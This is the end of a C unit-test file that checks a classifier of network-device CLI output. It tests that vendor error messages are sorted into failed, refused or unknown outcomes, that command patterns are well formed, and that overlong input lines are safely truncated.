		enum outcome outcome;
	} lines[] = {
		{"% Invalid input detected at '^' marker.", OUTCOME_FAILED},
		{"% Ambiguous command:  \"s\"", OUTCOME_FAILED},
		{"Error: Unrecognized command found at '^' position.", OUTCOME_FAILED},
		{"Command authorization failed.", OUTCOME_REFUSED},
		{"% Authorization failed.", OUTCOME_REFUSED},
		{"error: syntax error, expecting <command>", OUTCOME_FAILED},
		{"-sh: foo: Permission denied", OUTCOME_REFUSED},
		{"% Failed to commit one or more configuration items during a pseudo-atomic "
		 "operation. All changes made have been reverted. Please issue 'show "
		 "configuration failed [inheritance]' from this session to view the errors",
			OUTCOME_FAILED},
		{"% Authorization denied for command 'no aaa root'", OUTCOME_REFUSED},
		{"% Unavailable command (not supported on this hardware platform)", OUTCOME_FAILED},
		{"%No matching route to delete", OUTCOME_FAILED},
		{"% 10.1.1.0 overlaps with GigabitEthernet0/1", OUTCOME_FAILED},
		{"Command rejected: Bad VLAN list", OUTCOME_FAILED},
		{"%Invalid next hop address (it's this router)", OUTCOME_FAILED},
		{"%Inconsistent address and mask", OUTCOME_FAILED},
		{" % Too many parameters found at '^' position.", OUTCOME_FAILED},
		{"SHELL PARSER FAILURE: 'x' - match failed", OUTCOME_FAILED},
		{"%Code 23452-ZXPON_ : x", OUTCOME_FAILED},
		{"invalid value for argument address:", OUTCOME_FAILED},
		{"value of gateway expects range of ip addresses", OUTCOME_FAILED},
		{"no such item", OUTCOME_FAILED},
		{"not enough permissions (9)", OUTCOME_REFUSED},
		{"permission denied is what this line of a long text says, somewhere between words "
		 "that have nothing to do with a command or with whether it was taken, for it is "
		 "the text of a manual and goes on and on, from page to page", OUTCOME_UNKNOWN},
		{"Building configuration...", OUTCOME_UNKNOWN},
		{"% Generating 2048 bit RSA keys", OUTCOME_UNKNOWN},
		{"Info: Add a new user.", OUTCOME_UNKNOWN},
		{"  0 input errors, 0 CRC", OUTCOME_UNKNOWN},
		{"", OUTCOME_UNKNOWN},
	};
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++)
		ck_assert_msg(
			cli_error(&lexicon_builtin, span_str(lines[i].line)) == lines[i].outcome,
			"%s", lines[i].line);
}
END_TEST

START_TEST(the_lexicon_is_well_formed)
{
	for (uint32_t i = 0; i < lexicon_builtin.command_count; i++) {
		const char *p = lexicon_builtin.commands[i].pattern;
		int depth = 0;
		for (const char *c = p; *c; c++) {
			depth += *c == '{' ? 1 : *c == '}' ? -1 : 0;
			ck_assert_msg(depth == 0 || *c != ' ', "space in an alternative: %s", p);
			ck_assert_msg(*c != ' ' || (c[1] != ' ' && c[1]), "odd space: %s", p);
		}
		ck_assert_msg(depth == 0, "%s", p);
		ck_assert_msg(lexicon_builtin.commands[i].families, "%s", p);
	}
}
END_TEST

START_TEST(a_long_line_is_cut_and_nothing_worse)
{
	char line[4096];
	struct cli_meaning m;

	for (size_t i = 0; i < sizeof(line); i++)
		line[i] = i % 3 ? 'a' : ' ';
	cli_classify(&lexicon_builtin, CLI_UNKNOWN, U, span_of(line, sizeof(line)), &m);
	ck_assert_uint_le(m.text_len, CLI_TEXT_MAX);
	memset(line, '/', sizeof(line));
	cli_classify(&lexicon_builtin, CLI_UNKNOWN, U, span_of(line, sizeof(line)), &m);
	cli_classify(&lexicon_builtin, CLI_ROUTEROS, U, span_of(line, 100), &m);
}
END_TEST

#define COUNT(table) (int)(sizeof(table) / sizeof((table)[0]))

int main(void)
{
	TCase *tc = tcase_create("cli");

	tcase_add_loop_test(tc, each_command_means_what_its_vendor_says, 0, COUNT(commands));
	tcase_add_test(tc, commands_tell_how_they_move_between_modes_and_what_they_name);
	tcase_add_test(tc, a_line_of_several_commands_tells_every_deed);
	tcase_add_loop_test(tc, each_prompt_tells_its_family_and_mode, 0, COUNT(prompts));
	tcase_add_loop_test(tc, text_that_only_resembles_a_prompt_is_none, 0, COUNT(no_prompts));
	tcase_add_test(tc, error_lines_are_told_from_output);
	tcase_add_test(tc, the_lexicon_is_well_formed);
	tcase_add_test(tc, a_long_line_is_cut_and_nothing_worse);
	return unit_run(tc, "cli");
}
